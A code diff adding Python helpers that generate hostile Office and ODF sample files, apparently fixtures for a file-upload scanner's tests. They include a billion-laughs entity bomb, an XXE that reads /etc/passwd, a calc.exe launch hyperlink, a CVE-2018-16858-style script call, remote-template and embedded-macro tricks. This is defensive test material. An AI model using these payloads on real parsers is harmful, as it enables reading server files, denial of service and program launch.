@@ -120,3 +120,80 @@ def duplicate_zip() -> bytes:
         archive.writestr("a.txt", "what one program reads")
         archive.writestr("a.txt", "what another program reads")
     return buffer.getvalue()
+
+
+def macro_sheet_xlsx() -> bytes:
+    """A macro of 1992, which lives in a sheet and not in a VBA project."""
+    parts = office_parts("xlsx")
+    sheet = (
+        '<Override PartName="/xl/sheet9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
+    )
+    types = parts["[Content_Types].xml"].replace("</Types>", sheet)
+    return zip_of({**parts, "[Content_Types].xml": types, "xl/sheet9.xml": "<a/>"})
+
+
+def active_x_docx() -> bytes:
+    parts = office_parts("docx")
+    control = '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>'
+    types = parts["[Content_Types].xml"].replace("</Types>", control)
+    return zip_of({**parts, "[Content_Types].xml": types, "word/a.xml": "<a/>"})
+
+
+def renamed_pptm() -> bytes:
+    """A presentation whose main part says that it has macros, although there is no macro part."""
+    parts = pptx_parts(["Folie"])
+    plain = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
+    types = parts["[Content_Types].xml"].replace(
+        plain, "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
+    )
+    return zip_of({**parts, "[Content_Types].xml": types})
+
+
+def xlsm_inside_pptx() -> bytes:
+    """The macro is in a workbook that is embedded in the slides."""
+    workbook = zip_of({**office_parts("xlsx"), "xl/vbaProject.bin": b"x"})
+    return pptx(["Folie"], more={"ppt/embeddings/sheet.bin": workbook})
+
+
+def script_calling_odp() -> bytes:
+    """No macro inside: a click calls one that lies on the reader's machine (as in CVE-2018-16858)."""
+    event = (
+        '<script:event-listener xmlns:script="s" xmlns:xlink="x" '
+        'xlink:href="vnd.sun.star.script:../../pydoc.py$tempfilepager?language=Python&amp;location=share"/>'
+    )
+    return odp([f"<draw:g>{event}</draw:g>"])
+
+
+def program_calling_pptx() -> bytes:
+    """A click starts a program."""
+    return pptx(['<a:p><a:hlinkClick action="ppaction://program?calc.exe"/></a:p>'])
+
+
+def remote_template_docx(target: str = "https://example.org/a.dotm") -> bytes:
+    """Word fetches its template, and the macros in it, from elsewhere."""
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        'attachedTemplate" '
+        f'Target="{target}" TargetMode="External"/></Relationships>'
+    )
+    return docx({"word/_rels/settings.xml.rels": relations})
+
+
+def entity_bomb_pptx() -> bytes:
+    """A billion laughs: ten entities, each ten times the one before."""
+    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+    bomb = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "lol">{entities}]><a>&a9;</a>'
+    return pptx(["Folie"], more={"ppt/slides/slide1.xml": bomb})
+
+
+def external_entity_odp() -> bytes:
+    """A file of the server is to become the text of a slide."""
+    return odp(
+        ["x"], more={"content.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
+    )
+
+
+def long_part_pptx(megabytes: int) -> bytes:
+    """A slide of one endless text, small on the disk."""
+    return pptx([f"<a:p><a:r><a:t>{'x' * megabytes * 1024 * 1024}</a:t></a:r></a:p>"])
